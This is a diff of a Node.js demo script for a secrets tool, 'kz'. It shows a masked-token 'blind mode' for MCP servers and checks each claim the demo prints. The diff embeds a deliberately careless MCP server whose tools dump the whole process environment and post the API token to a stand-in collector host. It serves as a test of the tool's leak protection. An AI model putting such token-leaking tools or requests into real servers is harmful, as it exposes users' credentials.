@@ -1,18 +1,65 @@
-// `npm run demo`: a secret goes into kz's own store, an MCP server gets it at start, and every claim on the screen is checked on the way.
-// Offline, in a temporary folder with a home of its own; exits with 1 when anything is not as it says.
-import { execFileSync, spawn } from 'node:child_process';
+// `npm run demo`: a secret goes into kz's own store, an MCP server gets it at start; then another one in blind mode, which gets a masked
+// token, calls an API with it and tries to give it away. Every claim on the screen is checked; exits with 1 when one does not hold.
+// Offline, in a temporary folder with a home of its own. api.example.com is played by a TLS server in this process, with an authority of its
+// own that the config names; kz finds the way to it through a CONNECT proxy in its environment, as behind a company's. Nothing of kz is
+// replaced or told that it is a demo.
+import { spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { dirname, join, relative } from 'node:path';
+import { basename, dirname, join, relative } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { startApi } from './demo/api.mjs';
+import { descendants, survivors } from './demo/processes.mjs';
+
+const CONFIG = `[secrets]
+API_TOKEN = { provider = "store", ref = "api", hosts = ["api.example.com"] }
+
+[blind]
+upstream_ca = "company-ca.pem"
+
+[[blind.connections]]
+allow = true
+host = "api.example.com"
+
+[[blind.connections]]
+allow = false
+host = "*"
+`;
+const LAST_RULE = CONFIG.split('\n').lastIndexOf('[[blind.connections]]') + 1;
+
+const API = 'https://api.example.com/whoami';
+const COMMENTS = 'https://api.example.com/comments';
+const COLLECTOR = 'https://collector.example.net/take';
+
+/** An MCP server whose two tools do what an agent asks, foolish things too. */
+const SERVER = `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
+import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
+import { z } from 'zod';
+
+const { API_TOKEN } = process.env;
+const server = new McpServer({ name: 'api', version: '1.0.0' });
+const text = (text) => ({ content: [{ type: 'text', text }] });
+server.registerTool('environment', {}, () => text(JSON.stringify(process.env)));
+const inputSchema = { url: z.string(), method: z.string(), authorize: z.boolean().optional(), say: z.boolean().optional() };
+server.registerTool('request', { inputSchema }, async ({ url, method, authorize, say }) => {
+  const headers = { 'content-type': 'application/json', ...(authorize ? { authorization: 'Bearer ' + API_TOKEN } : {}) };
+  const body = say ? JSON.stringify({ comment: 'my token: ' + API_TOKEN }) : undefined;
+  const response = await fetch(url, { method, headers, body });
+  return text(response.status + ' ' + (await response.text()));
+});
+await server.connect(new StdioServerTransport());
+`;
+
+const NOTHING = { authorization: 'nothing', body: 'nothing', echo: '', encrypted: false };
 
 const root = fileURLToPath(new URL('..', import.meta.url));
 const folder = mkdtempSync(join(tmpdir(), 'kz-demo-'));
 const home = join(folder, 'home');
 const project = join(folder, 'project');
+/** @type {Record<string, string>} */
 const env = { HOME: home, PATH: [join(folder, 'bin'), dirname(process.execPath), '/usr/bin', '/bin'].join(':') };
 const value = `demo_${randomBytes(24).toString('base64url')}`;
 const startedAt = performance.now();
@@ -42,44 +89,151 @@ async function demo() {
   symlinkSync(join(root, 'bin', 'kz.cjs'), join(folder, 'bin', 'kz'));
   // What `npm install` leaves in a project, so that npx finds the server without a registry.
   symlinkSync(join(root, 'node_modules'), join(project, 'node_modules'));
-
-  step('.keyzero.toml says where the secret lives; it can be committed');
-  const config = '[secrets]\nAPI_TOKEN = { provider = "store", ref = "demo-token", min_length = 20 }\n';
-  writeFileSync(join(project, '.keyzero.toml'), config);
-  show(config);
-
-  step('kz put API_TOKEN: the value is piped in, never an argument');
-  const put = await kz(['put', 'API_TOKEN'], value);
-  show(put.stderr);
-  check('stored', put.code === 0);
-  const stored = files(home);
-  const open = stored.filter((path) => (statSync(path).mode & 0o077) !== 0);
-  check('the files are yours alone', stored.length > 0 && open.length === 0, `mode 0600: ${names(stored)}`);
-  check('on disk it is ciphertext', stored.length > 0 && holding(stored).length === 0, 'the value is in none of them');
-
-  step('kz status: presence, never the value');
-  const status = await kz(['status']);
-  show(status.stdout);
-  check('present and not shown', status.code === 0 && !holds(Buffer.from(status.stdout + status.stderr)));
-
-  step('.mcp.json starts the server through kz');
-  const server = { command: 'kz', args: ['run', '--', 'npx', '-y', '@modelcontextprotocol/server-everything'] };
-  writeFileSync(join(project, '.mcp.json'), JSON.stringify({ mcpServers: { everything: server } }));
-  show(`"everything": { "command": "kz", "args": ${JSON.stringify(server.args)} }`);
-  check('it holds no secret', !holds(readFileSync(join(project, '.mcp.json'))));
-
-  step('an MCP client starts it, lists its tools and calls get-env');
-  await useServer(server);
-
-  step('afterwards');
+  const api = await startApi();
+  env.HTTPS_PROXY = api.proxy;
+  try {
+    await storing(api.certificate);
+    await direct();
+    await blind(api);
+  } finally {
+    api.close();
+  }
   const traces = holding(files(folder));
   check('the value is in no file', traces.length === 0, traces.length === 0 ? 'of the project and the home folder' : names(traces));
 }
 
-/** @param {{ command: string, args: string[] }} server */
-async function useServer(server) {
+/** @param {string} certificate */
+async function storing(certificate) {
+  step('.keyzero.toml says where the secret lives and where it may go: commit it');
+  writeFileSync(join(project, '.keyzero.toml'), CONFIG);
+  writeFileSync(join(project, 'company-ca.pem'), certificate);
+  show(CONFIG);
+
+  step('kz put API_TOKEN: the value is piped in, never an argument');
+  const put = await kz(['put', 'API_TOKEN'], value);
+  const stored = files(home);
+  const open = stored.filter((path) => (statSync(path).mode & 0o077) !== 0);
+  check(
+    'stored, for you alone',
+    put.code === 0 && stored.length > 0 && open.length === 0,
+    `mode 0600: ${stored.map((path) => basename(path)).join(', ')}`,
+  );
+  check('on disk it is ciphertext', stored.length > 0 && holding(stored).length === 0, 'the value is in none of them');
+  const status = await kz(['status']);
+  check(
+    'kz status hides it',
+    status.code === 0 && !holds(status.stdout + status.stderr),
+    status.stdout.split('\n')[1]?.replace(/  +/g, ' '),
+  );
+}
+
+async function direct() {
+  step('direct mode: an MCP client starts a server through kz run');
+  const args = ['run', '--', 'npx', '-y', '@modelcontextprotocol/server-everything'];
+  show(`kz ${args.join(' ')}`);
+  await withServer(args, async (client) => {
+    const seen = environmentOf(await call(client, 'get-env')).API_TOKEN ?? '';
+    check('it has the secret', seen === value, `API_TOKEN=${short(seen)}: the real one`);
+  });
+}
+
+/**
+ * What one blind server did, as seen from both ends.
+ * @typedef {{ token: string, answer: string, comment: string, refusal: string }} Seen
+ */
+
+/** @param {Awaited<ReturnType<typeof startApi>>} api */
+async function blind(api) {
+  step('blind mode: the same, and a server that does whatever it is told');
+  const everything = ['run', '--blind', '--', 'npx', '-y', '@modelcontextprotocol/server-everything'];
+  show(`kz ${everything.join(' ')}`);
+  await withServer(everything, async (client) => {
+    const text = await call(client, 'get-env');
+    const { API_TOKEN: token = '' } = environmentOf(text);
+    check('it has a masked token', token.startsWith('kz_masked_') && !holds(text), `API_TOKEN=${short(token)}`);
+  });
+  writeFileSync(join(project, 'server.mjs'), SERVER);
+  const args = ['run', '--blind', '--', 'node', 'server.mjs'];
+  show(`kz ${args.join(' ')}`);
+  const allowed = await kz(['explain', API]);
+  const denied = await kz(['explain', COLLECTOR]);
+  const isKnown = allowed.code === 0 && denied.code === 1 && denied.stdout.includes(`.keyzero.toml:${String(LAST_RULE)} `);
+  check('kz explain knows before', isKnown, 'the API allowed, the collector denied');
+  writeFileSync(join(project, 'strangers.toml'), CONFIG.replace(/^upstream_ca.*$/m, ''));
+  const request = `fetch('${API}').then(({ status }) => process.exit(status === 502 ? 0 : 1))`;
+  const unknown = await kz(['run', '--blind', '-c', 'strangers.toml', '--', 'node', '-e', request]);
+  check('kz verifies the API', unknown.code === 0 && api.received.length === 0, 'without upstream_ca: 502, nothing sent');
+  const seen = await withServer(args, async (client) => ({
+    token: environmentOf(await call(client, 'environment')).API_TOKEN ?? '',
+    answer: await call(client, 'request', { url: API, method: 'GET', authorize: true }),
+    comment: await call(client, 'request', { url: COMMENTS, method: 'POST', say: true }),
+    refusal: await call(client, 'request', { url: COLLECTOR, method: 'POST', authorize: true, say: true }),
+  }));
+  const audit = await kz(['audit'], '', { TZ: 'UTC' });
+  compare(api, seen, audit.stdout);
+}
+
+/**
+ * @param {Awaited<ReturnType<typeof startApi>>} api
+ * @param {Seen} seen
+ * @param {string} audit
+ */
+function compare({ received, dialled }, { token, answer, comment, refusal }, audit) {
+  const [whoami = NOTHING, comments = NOTHING] = received;
+  const line = found(/\.keyzero\.toml:\d+/, refusal);
+  const echoed = found(/Bearer [^"]+/, answer);
+  const said = JSON.stringify({ comment: `my token: ${token}` });
+  step('both ends of the wire, and what kz audit says');
+  row('', 'THE SERVER', '', 'THE API');
+  row('environment', `API_TOKEN=${short(token)}`, '', '');
+  row('GET /whoami', `Bearer ${short(token)}`, '─▶', short(whoami.authorization, 24));
+  row('  its echo', short(echoed, 24), '◀─', short(whoami.authorization, 24));
+  row('POST /comments', short(`my token: ${token}`, 25), '─▶', short(found(/my token: \w+/, comments.body), 25));
+  row('POST elsewhere', `${refusal.slice(0, 3)} by ${line}`, '─✗', 'nothing: not even dialled');
+  show(`\n${audit.trimEnd().split('\n').flatMap(wrapped).join('\n')}\n `);
+  check('the server has a token', token.startsWith('kz_masked_'), 'random, made for this run');
+  check('the API got the value', whoami.authorization === `Bearer ${value}` && whoami.encrypted, 'over TLS');
+  check('its echo came back masked', echoed === `Bearer ${token}` && whoami.echo.includes(value), 'the API did send the value');
+  check('free text stays masked', comment.startsWith('200') && comments.body === said, 'once published, it is worth nothing');
+  check(
+    'elsewhere is refused',
+    refusal.startsWith('403') && line === `.keyzero.toml:${String(LAST_RULE)}`,
+    `by ${line}; the server is told so`,
+  );
+  const places = new Set(dialled);
+  check('nothing went there', places.size === 1 && places.has('api.example.com:443'), `dialled: ${[...places].join(', ')} alone`);
+  check('the server saw no value', !holds([token, answer, comment, refusal].join('\n')), 'not in any answer, nor in hex or base64');
+  const isLogged = audit.includes('API_TOKEN in header authorization') && /blocked +POST/.test(audit);
+  check('kz audit has it all', isLogged && !holds(audit), 'by name; its log holds no value');
+}
+
+/**
+ * @param {RegExp} pattern
+ * @param {string} text
+ */
+function found(pattern, text) {
+  return pattern.exec(text)?.[0] ?? '?';
+}
+
+/**
+ * @param {string} what
+ * @param {string} left
+ * @param {string} arrow
+ * @param {string} right
+ */
+function row(what, left, arrow, right) {
+  print(`    ${what.padEnd(14)}  ${left.padEnd(28)}  ${arrow.padEnd(2)}  ${right}`.trimEnd());
+}
+
+/**
+ * Starts a server through kz, as an MCP client does, and checks what holds for each.
+ * @template T
+ * @param {string[]} args
+ * @param {(client: Client) => Promise<T>} use
+ */
+async function withServer(args, use) {
   const offline = { npm_config_offline: 'true', npm_config_update_notifier: 'false' };
-  const transport = new StdioClientTransport({ ...server, cwd: project, env: { ...env, ...offline }, stderr: 'pipe' });
+  const transport = new StdioClientTransport({ command: 'kz', args, cwd: project, env: { ...env, ...offline }, stderr: 'pipe' });
   const client = new Client({ name: 'demo', version: '1.0.0' });
   let noise = 0;
   client.onerror = () => {
@@ -96,35 +250,42 @@ async function useServer(server) {
     throw error;
   }
   const { tools } = await client.listTools();
-  const { content } = /** @type {{ content: { text: string }[] }} */ (await client.callTool({ name: 'get-env' }));
-  const environment = /** @type {Record<string, string>} */ (JSON.parse(content[0]?.text ?? '{}'));
-  const seen = environment.API_TOKEN ?? '';
-  check(
-    'it answers',
-    tools.length > 0,
-    `${String(tools.length)} tools (${tools
-      .slice(0, 3)
-      .map(({ name }) => name)
-      .join(', ')}, …)`,
-  );
-  check('it has the secret', seen === value, `API_TOKEN=${seen.slice(0, 8)}… (${String(seen.length)} characters): what was stored`);
-  check('every line was JSON-RPC', noise === 0, 'kz wrote nothing of its own to standard output');
+  const result = await use(client);
   const tree = transport.pid === null ? [] : [transport.pid, ...descendants(transport.pid)];
   const closing = performance.now();
   await client.close();
   const took = performance.now() - closing;
   const left = await survivors(tree);
-  check('it ends with the client', took < 2000, `${took.toFixed(0)} ms after the client closed its input, without a signal`);
-  check('no process is left', tree.length > 2 && left.length === 0, `of ${String(tree.length)} (kz, npx, the server, …)`);
+  const ended = `${String(tools.length)} tools; all ${String(tree.length)} processes ended in ${took.toFixed(0)} ms`;
+  check('it works and ends cleanly', tools.length > 0 && noise === 0 && took < 2000 && tree.length > 1 && left.length === 0, ended);
+  return result;
+}
+
+/**
+ * The text that a tool answers.
+ * @param {Client} client
+ * @param {string} name
+ * @param {Record<string, unknown>} [args]
+ */
+async function call(client, name, args = {}) {
+  const { content } = /** @type {{ content: { text: string }[] }} */ (await client.callTool({ name, arguments: args }));
+  return content[0]?.text ?? '';
+}
+
+/** @param {string} text */
+function environmentOf(text) {
+  const variables = /** @type {Record<string, string>} */ (JSON.parse(text));
+  return variables;
 }
 
 /**
  * @param {string[]} args
  * @param {string} [input]
+ * @param {Record<string, string>} [extra]
  * @returns {Promise<{ code: number | null, stdout: string, stderr: string }>}
  */
-async function kz(args, input = '') {
-  const child = spawn('kz', args, { cwd: project, env });
+async function kz(args, input = '', extra = {}) {
+  const child = spawn('kz', args, { cwd: project, env: { ...env, ...extra } });
   let stdout = '';
   let stderr = '';
   child.stdout.on('data', (/** @type {Buffer} */ chunk) => (stdout += chunk.toString('utf8')));
@@ -135,53 +296,6 @@ async function kz(args, input = '') {
     child.once('close', resolve);
   });
   return { code, stdout, stderr };
-}
-
-/**
- * Every living process below one of ours.
- * @param {number} top
- */
-function descendants(top) {
-  const rows = processes();
-  const found = [top];
-  for (const above of found) found.push(...rows.flatMap(({ pid, parent }) => (parent === above ? [pid] : [])));
-  return found.slice(1);
-}
-
-/** From /proc where there is one: small images have no ps(1). */
-function processes() {
-  const lines =
-    process.platform === 'linux'
-      ? readdirSync('/proc').flatMap((entry) => (/^\d+$/.test(entry) ? statLine(entry) : []))
-      : execFileSync('ps', ['-A', '-o', 'pid=,stat=,ppid='], { encoding: 'utf8' }).trim().split('\n');
-  return lines.flatMap((line) => {
-    const [pid, state, parent] = line.trim().split(/\s+/);
-    return state?.startsWith('Z') === true ? [] : [{ pid: Number(pid), parent: Number(parent) }];
-  });
-}
-
-/** @param {string} pid */
-function statLine(pid) {
-  try {
-    const text = readFileSync(`/proc/${pid}/stat`, 'latin1');
-    return [`${pid} ${text.slice(text.lastIndexOf(')') + 2)}`];
-  } catch {
-    return [];
-  }
-}
-
-/**
- * Those still there after a second.
- * @param {number[]} pids
- */
-async function survivors(pids) {
-  const deadline = Date.now() + 1000;
-  for (;;) {
-    const alive = new Set(processes().map(({ pid }) => pid));
-    const left = pids.filter((pid) => alive.has(pid));
-    if (left.length === 0 || Date.now() > deadline) return left;
-    await new Promise((resolve) => setTimeout(resolve, 20));
-  }
 }
 
 /**
@@ -202,7 +316,7 @@ function holding(paths) {
   return paths.filter((path) => holds(readFileSync(path)));
 }
 
-/** @param {Buffer} bytes */
+/** @param {Buffer | string} bytes */
 function holds(bytes) {
   const plain = Buffer.from(value, 'utf8');
   return [value, plain.toString('hex'), plain.toString('base64')].some((form) => bytes.includes(form));
@@ -211,6 +325,23 @@ function holds(bytes) {
 /** @param {string[]} paths */
 function names(paths) {
   return paths.map((path) => `~/${relative(home, path)}`).join(', ');
+}
+
+/**
+ * @param {string} text
+ * @param {number} [length]
+ */
+function short(text, length = 17) {
+  return text.length > length ? `${text.slice(0, length)}…` : text;
+}
+
+/**
+ * Lines that fit a terminal of 80 columns.
+ * @param {string} text
+ */
+function wrapped(text) {
+  const [first = '', ...rest] = text.match(/.{1,76}(?=\s|$)|.{1,76}/g) ?? [];
+  return [first, ...rest.map((line) => ' '.repeat(14) + line.trim())];
 }
 
 /** @param {string} title */
@@ -222,7 +353,7 @@ function step(title) {
 
 /** @param {string} text */
 function show(text) {
-  for (const line of text.trimEnd().split('\n')) print(`    ${line.replaceAll(folder, '')}`);
+  for (const line of text.trimEnd().split('\n')) print(`    ${line.replaceAll(folder, '')}`.trimEnd());
 }
 
 /**
